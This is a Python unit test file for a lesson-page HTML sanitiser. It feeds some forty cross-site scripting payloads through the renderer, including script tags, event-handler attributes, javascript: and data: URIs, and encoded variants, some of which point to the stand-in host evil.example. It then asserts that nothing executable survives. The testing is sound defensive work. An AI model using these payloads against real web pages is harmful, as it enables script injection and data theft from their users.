"""Nothing that an author, or somebody who pretends to be one, writes may run or vanish unsaid."""

import re

import pytest

from app.curriculum.figures import draw_diagram, set_formula
from app.curriculum.html_page import lesson_html
from tests.unit.curriculum.helpers import codes, fold, lesson_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a <script>alert(1)</script> b",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="words">',
    "<svg onload=alert(1)><script>1</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "<javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="x">y</p>',
    "<details open ontoggle=alert(1)><summary>Check</summary>x</details>",
    '<summary onclick="alert(1)">x</summary>',
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=a></form>",
    "<object data=x></object><embed src=x>",
    "<template><script>1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "`<script>`<script>alert(1)</script>",
    "<b <script>alert(1)</script>>",
    '```mermaid\nflowchart TD\n A["<img src=x onerror=alert(1)>"] --> B\n click A "javascript:alert(1)"\n```',
    "<div hx-get=/x hx-on:click=alert(1) data-hx-get=/y>x</div>",
    "\ue000" + "0" + '\ue001 "onload=x',
]
SINKS = re.compile(
    r"<(?:script|style|svg|math|iframe|object|embed|form|input|link|meta|base|template|body)\b", re.IGNORECASE
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "where", ["## Know this\n\n{}\n", "## Practice\n\n1. ▢ {}\n\n    - a) {}\n    - b) y\n\n"]
)
def test_nothing_can_run(attack: str, where: str) -> None:
    one_line = attack.replace("\n", " ") if "{} y" in where or "- a)" in where else attack
    text = where.replace("{}", one_line)
    if "Practice" in where:
        text += fold("Check", f"**b)** {one_line}")
    html = lesson_html(lesson_of(text))
    assert not SINKS.search(html)
    for tag in re.findall(r"<[a-z][^>]*>", html):
        attributes = re.sub(r'"[^"]*"', '""', tag)
        assert not re.search(r"\s(?:on\w+|style|hx-[\w:-]+|data-[\w-]+|srcdoc|formaction)\s*=", attributes), (
            tag
        )
        for address in re.findall(r'(?:href|src)="([^"]*)"', tag):
            assert re.match(r"(?:https?:|mailto:|/|#)", address), tag


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        ("List<T> here", "HT001"),
        ("<Shard x='1'> here", "HT001"),
        ("<script>alert(1)</script>", "HT002"),
        ("<b onclick='x'>y</b>", "HT002"),
        ("[x](javascript:alert(1))", "HT002"),
        ("<!-- to do -->", "HT003"),
    ],
)
def test_what_is_not_shown_as_written_is_said(attack: str, code: str) -> None:
    assert code in [found for _, found in codes(lesson_of(f"## Know this\n\n{attack}\n"))]


def test_generics_are_shown_as_text() -> None:
    html = lesson_html(lesson_of("## Know this\n\nA Map<K, List<V>> and\n\n<T>\n\nalone.\n"))
    assert "Map&lt;K, List&lt;V&gt;&gt;" in html
    assert "&lt;T&gt;" in html


def test_harmless_html_stays() -> None:
    html = lesson_html(
        lesson_of(
            "## Know this\n\nPress <kbd>Ctrl</kbd>, H<sub>2</sub>O<br>\n\n<div>\n\n**bold**\n\n</div>\n"
        )
    )
    assert "<kbd>Ctrl</kbd>" in html
    assert "H<sub>2</sub>O<br>" in html
    assert "<strong>bold</strong>" in html


def test_unclosed_raw_tags_swallow_nothing() -> None:
    for tag in ("<script>", "<style>", "<textarea>", "<pre>", "<!--", "<?php", "<![CDATA[", "<!DOCTYPE"):
        html = lesson_html(
            lesson_of(
                f"## Know this\n\n{tag} words\n\n## Practice\n\n1. ▢ Still here?\n\n{fold('Check', 'yes')}"
            )
        )
        assert "Still here?" in html, tag
        assert "words" in html, tag


def test_diagrams_carry_neither_scripts_nor_links() -> None:
    svg = draw_diagram(
        'flowchart TD\n A["x"] --> B\n click A "javascript:alert(1)"\n click B href "https://evil.example"\n'
    ).decode()
    assert svg.startswith("<svg")
    assert "javascript:" not in svg
    assert "evil.example" not in svg
    assert "<script" not in svg
    assert draw_diagram("no diagram at all") == b""


def test_formulas_have_classes_and_no_styles() -> None:
    markup, why = set_formula(r"\begin{aligned} a&=b\\c&=d\end{aligned}", True)
    assert why == ""
    assert ' style="' not in markup
    assert 'class="math-right"' in markup
    assert set_formula(r"\foo{x}", False) == ("", 'Unknown command "\\foo".')
